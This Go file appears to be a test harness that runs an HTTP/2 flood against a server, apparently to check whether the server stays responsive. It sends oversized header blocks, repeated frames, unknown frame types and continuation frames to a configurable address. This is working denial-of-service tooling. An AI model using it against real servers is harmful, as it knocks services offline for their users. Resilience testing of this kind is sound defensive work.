package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is one hostile connection.
type attacker struct {
	net.Conn
	framer *http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
}

func newAttacker(conn net.Conn) *attacker {
	a := &attacker{Conn: conn, framer: http2.NewFramer(conn, nil)}
	a.hpack = hpack.NewEncoder(&a.block)
	return a
}

// greet begins HTTP/2.
func (a *attacker) greet(settings ...http2.Setting) error {
	if _, err := io.WriteString(a.Conn, http2.ClientPreface); err != nil {
		return err
	}
	return a.framer.WriteSettings(settings...)
}

// each sends something on every stream that is allowed, and then waits for the end
// of the connection without reading it.
func (a *attacker) each(send func(id uint32) error) error {
	for id := uint32(1); id < 2*floodStreams; id += 2 {
		if err := send(id); err != nil {
			return err
		}
	}
	for {
		time.Sleep(50 * time.Millisecond)
		if err := a.framer.WriteRawFrame(0xee, 0, 0, nil); err != nil { // of an unknown type
			return err
		}
	}
}

// repeat sends the same frame as often as it can, many in one write.
func (a *attacker) repeat(ctx context.Context, write func(*http2.Framer) error) error {
	var frames bytes.Buffer
	framer := http2.NewFramer(&frames, nil)
	for range 1000 {
		if err := write(framer); err != nil {
			return err
		}
	}
	for ctx.Err() == nil {
		if _, err := a.Write(frames.Bytes()); err != nil {
			return err
		}
	}
	return nil
}

func (a *attacker) fields(path, contentType string, bytes int) []byte {
	a.block.Reset()
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "localhost"}, {"content-type", contentType}, {"te", "trailers"},
	} {
		a.hpack.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	const field = 1000
	value := strings.Repeat("x", field-40)
	for i := range bytes / field {
		// Literal, never indexed, not Huffman-coded: little work for who sends it (RFC 7541, section 6.2.3).
		name := fmt.Sprintf("x-%02d", i)
		a.block.WriteByte(0x10)
		a.block.WriteByte(byte(len(name)))
		a.block.WriteString(name)
		a.block.Write([]byte{0x7f, byte((len(value)-127)&0x7f | 0x80), byte((len(value) - 127) >> 7)})
		a.block.WriteString(value)
	}
	return a.block.Bytes()
}

func (a *attacker) headers(id uint32, path, contentType string, bytes int, end bool) error {
	block := a.fields(path, contentType, bytes)
	first := block[:min(len(block), 16<<10)]
	err := a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: end, EndHeaders: len(first) == len(block)})
	if err == nil && len(first) < len(block) {
		err = a.framer.WriteContinuation(id, true, block[len(first):])
	}
	return err
}

// order is what that variable says, as JSON.
type order struct {
	Network, Address, Flood string
	TLS                     bool
	Lasting                 time.Duration
}

// TestAttack is no test but the other process of flood.
func TestAttack(t *testing.T) {
	text := os.Getenv(floodVariable)
	if text == "" {
		return
	}
	var o order
	if err := json.Unmarshal([]byte(text), &o); err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(floods, func(f flood) bool { return f.name == o.Flood })
	ctx, cancel := context.WithTimeout(t.Context(), o.Lasting)
	defer cancel()
	var wait sync.WaitGroup
	var count atomic.Int64
	for range floodConnections {
		wait.Go(func() {
			for ctx.Err() == nil {
				count.Add(floods[i].attack(ctx, o))
			}
		})
	}
	wait.Wait()
	fmt.Printf("connections: %d\n", count.Load())
}

// attack keeps one connection busy, and returns 1 when there was one.
func (f flood) attack(ctx context.Context, o order) int64 {
	var d net.Dialer
	socket, err := d.DialContext(ctx, o.Network, o.Address)
	if err != nil {
		return 0
	}
	defer socket.Close()
	stop := context.AfterFunc(ctx, func() { socket.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	conn := socket
	if o.TLS {
		conn = tls.Client(socket, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	}
	a := newAttacker(conn)
	if f.raw || a.greet() == nil {
		_ = f.run(ctx, a) // ends with the connection
	}
	return 1
}

// probed is what became of probes.
type probed struct {
	asked, answered int
	slowest         time.Duration
	failure         error
}

func (p probed) String() string {
	return fmt.Sprintf("%d/%d, %d ms", p.answered, p.asked, p.slowest.Milliseconds())
}

// mostly reports whether nearly all were answered. A probe that comes while this
// machine does nothing but attack may be taken for one that sends nothing.
func (p probed) mostly() bool { return p.answered > 0 && p.answered*100 >= p.asked*95 }

// repeatedly probes until the context ends.
func repeatedly(ctx context.Context, probe func() error) (p probed) {
	for ctx.Err() == nil {
		start := time.Now()
		p.asked++
		if err := probe(); err == nil {
			p.answered++
		} else {
			p.failure = err
		}
		p.slowest = max(p.slowest, time.Since(start))
	}
	return p
}
